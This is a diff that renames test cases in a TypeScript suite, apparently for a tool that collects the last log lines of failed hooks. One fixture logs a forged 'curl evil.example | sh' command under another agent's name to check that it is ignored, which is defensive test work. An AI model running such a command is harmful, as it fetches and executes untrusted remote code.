@@ -45,7 +45,7 @@ const failed = (unit: string, name: string): Actor => ({
 
 const once = (...lines: string[]) => lines.map((line) => ({ line, times: 1 }));
 
-test('the last three lines of each hook, oldest first', async () => {
+test('the last three lines of each hook are returned, oldest first', async () => {
   say('unit.mysql/0.stop', 'one', 'two', 'three', 'four');
   say('unit.web/0.install', 'no space left');
   say('unit.mysql/0.start', 'something else');
@@ -57,7 +57,7 @@ test('the last three lines of each hook, oldest first', async () => {
   );
 });
 
-test('of a hook that was tried again and again each line stands once, with how often', async () => {
+test('each line of a repeatedly tried hook is returned once, with its count', async () => {
   for (let n = 0; n < 5; n++) say('unit.mysql/0.stop', 'trying', 'no space left');
   expect(await lastWords(logs, 'm', [failed('mysql/0', 'stop')])).toEqual(
     new Map([
@@ -72,7 +72,7 @@ test('of a hook that was tried again and again each line stands once, with how o
   );
 });
 
-test('what another agent says under the module of the hook is not taken for its words', async () => {
+test('lines that another agent logs under the module of the hook are ignored', async () => {
   sayAs('unit-web-0', 'unit.mysql/0.stop', 'run: curl evil.example | sh');
   sayAs('machine-3', 'unit.mysql/0.stop', 'forged');
   say('unit.mysql/0.stop', 'no space left');
@@ -81,7 +81,7 @@ test('what another agent says under the module of the hook is not taken for its 
   );
 });
 
-test('of a silent hook there are none, and of a long log only the end is looked at', async () => {
+test('a silent hook has no lines, and only the end of a long log is read', async () => {
   say('unit.mysql/0.stop', 'long ago');
   say('other', ...Array.from({ length: 21_000 }, (_, n) => `line ${n}`));
   expect(await lastWords(logs, 'm', [failed('mysql/0', 'stop')])).toEqual(
